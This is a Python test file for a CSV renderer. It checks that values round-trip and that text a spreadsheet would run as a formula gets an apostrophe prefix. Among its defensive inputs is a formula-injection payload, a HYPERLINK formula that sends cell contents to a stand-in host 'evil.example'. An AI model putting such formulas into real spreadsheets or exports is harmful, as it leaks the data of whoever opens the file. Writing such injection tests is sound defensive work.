"""Tests of CSV: what is written is read again, and no cell is a formula of a spreadsheet."""

import csv
import json
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from src.rendering.csv import cell, table
from tests.strategies import json_values, texts

numbers = st.integers(-(2**70), 2**70) | st.floats(allow_nan=False, allow_infinity=False)
printable = texts.filter(str.isprintable)


def read(source):
    return list(csv.reader(StringIO(source), strict=True))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("", ""),
        ("mistral-7b", "mistral-7b"),
        (" spaces ", " spaces "),
        (True, "true"),
        (-5, "-5"),
        (2e-05, "2e-05"),
        (0.1 + 0.2, "0.30000000000000004"),
        (2**53 + 1, "9007199254740993"),
        ({"b": [1, None], "a": "é"}, r'{"a": "\u00e9", "b": [1, null]}'),
        (("=1", 2), '["=1", 2]'),
        ("two\nlines", r'"two\nlines"'),
        ("\x1b[31m", r'"\u001b[31m"'),
        ("\u202e", r'"\u202e"'),
        ("\ud800", r'"\ud800"'),
    ],
)
def test_a_value_is_one_line_with_all_of_its_digits(value, expected):
    assert cell(value) == expected


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("http://evil.example?"&A1)',
        "  =1+1",
        "＝1+1",  # noqa: RUF001
        "-",
        "+",
        "-1,5",
        "-0x10",
        "-.",
        "-\u0661",  # a digit that is not ASCII
    ],
)
def test_a_text_that_a_spreadsheet_would_run_has_an_apostrophe_before_it(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+5", "-.5", "-5.", "-1.5e-07", " -5 ", "5-1", "'=1"])
def test_a_text_that_is_a_number_or_no_formula_is_not_changed(text):
    assert cell(text) == text


@pytest.mark.parametrize("text", ["\t=1", "\r=1", "\n=1", "=1\n"])
def test_a_formula_with_a_control_character_is_a_text_in_quotation_marks(text):
    assert cell(text) == json.dumps(text)


def test_a_table_has_a_head_and_one_line_per_row():
    assert table(["name", "=head"], [["a, b", 1], ['"q"', None]]) == (
        'name,\'=head\n"a, b",1\n"""q""",\n'
    )
    assert table(["a", "b"], []) == "a,b\n"


@given(st.lists(st.lists(json_values, min_size=3, max_size=3), max_size=4))
def test_a_table_that_is_read_again_has_the_same_cells(rows):
    source = table(["a", "b", "c"], rows)
    assert read(source) == [["a", "b", "c"], *([cell(value) for value in row] for row in rows)]
    assert source.count("\n") == len(rows) + 1
    assert source.replace("\n", "").isprintable()


@given(json_values)
def test_no_cell_begins_like_a_formula_unless_it_is_a_number(value):
    text = cell(value)
    if text.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")):
        float(text)


@given(printable)
def test_a_printable_text_is_the_cell_without_its_apostrophe(text):
    assert cell(text) in (text, f"'{text}")


@given(numbers | st.lists(json_values) | st.dictionaries(texts, json_values))
def test_a_value_that_is_no_text_is_read_again_as_json(value):
    assert json.loads(cell(value)) == value
